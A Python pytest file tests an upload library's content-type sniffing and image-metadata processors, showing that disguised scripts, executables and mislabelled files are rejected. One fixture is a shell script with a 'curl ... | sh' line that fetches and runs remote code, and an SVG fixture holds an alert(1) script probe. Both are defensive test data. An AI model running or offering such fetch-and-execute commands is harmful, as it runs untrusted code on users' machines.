"""The built-in processors that need no service: the content-type check and image metadata
(issue 25, work in progress). Files are made here: real PNG and JPEG images by Pillow, a PDF
head, a script."""

from __future__ import annotations

import io
import re

import pytest
from PIL import Image

from queued_storage.processors import Passed, Rejected, Staged
from queued_storage.processors.content_type import ContentTypeCheck, sniff
from queued_storage.processors.images import ORIENTATION, ImageInfo


def staged(name: str, data: bytes, content_type: str = "") -> Staged:
    return Staged(name, len(data), content_type, "", lambda: io.BytesIO(data))


def image(kind: str, size: tuple[int, int] = (12, 7), orientation: int | None = None) -> bytes:
    out = io.BytesIO()
    picture = Image.new("RGB", size, (200, 10, 10))
    if orientation is not None:
        exif = Image.Exif()
        exif[ORIENTATION] = orientation
        picture.save(out, kind, exif=exif)
    else:
        picture.save(out, kind)
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"


@pytest.mark.parametrize(
    ("name", "data", "declared", "expected"),
    [
        ("photo.png", image("PNG"), "", "image/png"),
        ("photo.jpg", image("JPEG"), "image/jpeg", "image/jpeg"),
        ("paper.pdf", PDF, "application/pdf", "application/pdf"),
        ("notes.txt", b"just text\n", "text/plain", "text/plain"),
        ("data.bin", b"\x00\x01\x02", "", "application/octet-stream"),
    ],
)
def test_a_file_that_is_what_it_claims_passes_with_its_type(
    name: str, data: bytes, declared: str, expected: str
) -> None:
    found = ContentTypeCheck()(staged(name, data, declared))
    assert found == Passed({"content_type": expected})


def test_a_script_named_jpg_is_rejected_with_what_it_is() -> None:
    found = ContentTypeCheck()(staged("holiday.jpg", SCRIPT, "image/jpeg"))
    assert isinstance(found, Rejected)
    assert "'holiday.jpg' is text/x-script by its content" in found.reason
    assert "image/jpeg" in found.reason


def test_a_png_declared_as_something_else_is_rejected() -> None:
    found = ContentTypeCheck()(staged("upload", image("PNG"), "application/pdf"))
    assert isinstance(found, Rejected) and "its declared type says application/pdf" in found.reason


def test_a_name_claiming_a_format_its_bytes_lack_is_rejected() -> None:
    found = ContentTypeCheck()(staged("broken.png", b"not a png at all"))
    assert isinstance(found, Rejected) and "is not image/png" in found.reason


def test_an_executable_without_a_name_that_says_so_is_rejected() -> None:
    found = ContentTypeCheck()(staged("tool", b"\x7fELF\x02\x01\x01" + bytes(100)))
    assert isinstance(found, Rejected) and "application/x-executable" in found.reason


def test_an_allow_list_refuses_the_other_types() -> None:
    check = ContentTypeCheck(allowed=["image/*"])
    assert check(staged("photo.png", image("PNG"))) == Passed({"content_type": "image/png"})
    refused = check(staged("paper.pdf", PDF))
    assert isinstance(refused, Rejected) and "does not accept (allowed: image/*)" in refused.reason


def test_containers_pass_under_the_formats_built_on_them() -> None:
    docx = b"PK\x03\x04" + bytes(60)
    found = ContentTypeCheck()(staged("report.docx", docx))
    assert isinstance(found, Passed)


def test_svg_is_recognised_so_that_an_allow_list_can_leave_it_out() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    assert sniff(svg) == "image/svg+xml"
    refused = ContentTypeCheck(allowed=["image/png", "image/jpeg"])(staged("logo.svg", svg))
    assert isinstance(refused, Rejected)


def test_image_metadata_keeps_format_dimensions_and_orientation() -> None:
    found = ImageInfo()(staged("p.jpg", image("JPEG", (40, 30), orientation=6)))
    assert found == Passed(
        {"image": {"format": "JPEG", "width": 40, "height": 30, "orientation": 6}}
    )
    plain = ImageInfo()(staged("p.png", image("PNG", (5, 9))))
    assert plain == Passed({"image": {"format": "PNG", "width": 5, "height": 9, "orientation": 1}})


def test_an_unreadable_image_is_rejected_and_other_files_pass_with_nothing() -> None:
    found = ImageInfo()(staged("bad.png", b"\x89PNG\r\n\x1a\ngarbage"))
    assert isinstance(found, Rejected) and "'bad.png' is not a readable image" in found.reason
    assert ImageInfo()(staged("notes.txt", b"text")) == Passed()


# --- the ``processors`` option of a queued storage ---------------------------------------------
def shout(staged: Staged) -> Passed:
    """A processor of this module (a function)."""
    return Passed({"seen": staged.name})


def test_the_processors_option_loads_paths_classes_options_and_callables() -> None:
    from queued_storage.processors.clamav import ClamAV
    from queued_storage.storage import QueuedStorage

    storage = QueuedStorage(
        local="staging",
        remote="s3",
        delayed=True,
        processors=[
            "queued_storage.processors.content_type.ContentTypeCheck",
            {"path": "queued_storage.processors.clamav.ClamAV", "options": {"address": "/x"}},
            "tests.test_processors.shout",
            shout,
        ],
    )
    kinds = [type(p).__name__ for p in storage.processors]
    assert kinds == ["ContentTypeCheck", "ClamAV", "function", "function"]
    clamav = storage.processors[1]
    assert isinstance(clamav, ClamAV) and clamav.address == "/x"
    assert storage.processors[2] is shout and storage.processors[3] is shout
    assert QueuedStorage(local="staging", remote="s3", delayed=True).processors == ()


@pytest.mark.parametrize(
    ("processors", "message"),
    [
        ("queued_storage.processors.images.ImageInfo", "must be a list"),
        (["queued_storage.processors.nothing.Here"], "cannot load the processor"),
        ([{"path": "queued_storage.processors.clamav.ClamAV"}], "ClamAV.__init__()"),
        (["queued_storage.processors.content_type.HEAD"], "cannot be called"),
    ],
)
def test_a_processor_that_cannot_be_loaded_is_a_clear_error(
    processors: object, message: str
) -> None:
    from queued_storage.exceptions import QueuedStorageConfigError
    from queued_storage.storage import QueuedStorage

    with pytest.raises(QueuedStorageConfigError, match=re.escape(message)):
        QueuedStorage(local="staging", remote="s3", delayed=True, processors=processors)
